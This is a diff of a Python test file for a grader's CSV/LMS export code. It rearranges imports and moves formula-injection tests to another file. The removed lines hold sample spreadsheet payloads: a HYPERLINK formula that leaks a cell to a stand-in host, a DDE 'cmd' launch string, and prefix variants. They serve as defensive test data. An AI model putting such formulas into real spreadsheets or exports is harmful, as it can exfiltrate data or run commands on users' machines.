@@ -21,26 +21,13 @@ from grader.export import (
     moodle_xml,
 )
 from grader.export.common import neutralise, number
-from grader.export.table import PartScore, ScoreTable, StudentRow, table_from_reports
-from grader.roster import Roster, RosterEntry, parse_roster, read_roster
+from grader.export.roster import Roster, RosterEntry, parse_roster, read_roster
+from grader.scores import PartScore, ScoreTable, StudentRow, table_from_reports
 from tests.conftest import LMS_SAMPLES
 
 SAMPLES = LMS_SAMPLES
 NOW = datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
 CSV_FORMATS = [name for name, f in FORMATS.items() if f.suffix == ".csv"]
-
-# Text a student controls (their id, their name in the roster, a comment quoting them) that a
-# spreadsheet would run. Each must come out prefixed with a quote.
-FORMULA_CELLS = {
-    "hyperlink": '=HYPERLINK("http://x.example/?leak="&A1,"click")',
-    "plus": "+1+cmd|' /C calc'!A0",
-    "minus": "-2+3",
-    "at": "@SUM(A1:A9)",
-    "tab": "\t=1+1",
-    "carriage_return": "\r=1+1",
-    "fullwidth_equals": "\uff1d1+1",
-}
-
 
 def make_table(rows: list[StudentRow], parts=(("p1", 2.0), ("p2", 1.0))) -> ScoreTable:
     return ScoreTable(problem_set="lab", title="Lab 3", parts=list(parts), rows=rows,
@@ -85,23 +72,7 @@ def cells(text: str) -> list[str]:
 # ----------------------------------------------------------------------------- formula injection
 
 
-@pytest.mark.parametrize("fmt", CSV_FORMATS)
-@pytest.mark.parametrize("attack", sorted(FORMULA_CELLS))
-def test_formula_cells_are_neutralised_in_every_csv_format(fmt, attack, tmp_path):
-    hostile = FORMULA_CELLS[attack]
-    table = make_table([row(hostile, 1.5, 1.0, comment=hostile)])
-    roster = Roster({hostile: RosterEntry(
-        student=hostile, name=hostile, first_name=hostile, last_name=hostile, section=hostile,
-        ids={"canvas_id": "101", "sis_login_id": hostile, "email": hostile, "username": hostile,
-             "org_defined_id": hostile},
-    )})
-    text, result = write(fmt, table, tmp_path, roster=roster)
-    assert result.written == 1
-    for value in cells(text):
-        assert value[:1] not in set(FORMULA_CELLS_FIRST), (fmt, value)
-
-
-FORMULA_CELLS_FIRST = "=+-@\t\r\uff1d"
+# Formula injection in every CSV writer: tests/test_spreadsheet_cells.py.
 
 
 @pytest.mark.parametrize("fmt", CSV_FORMATS)
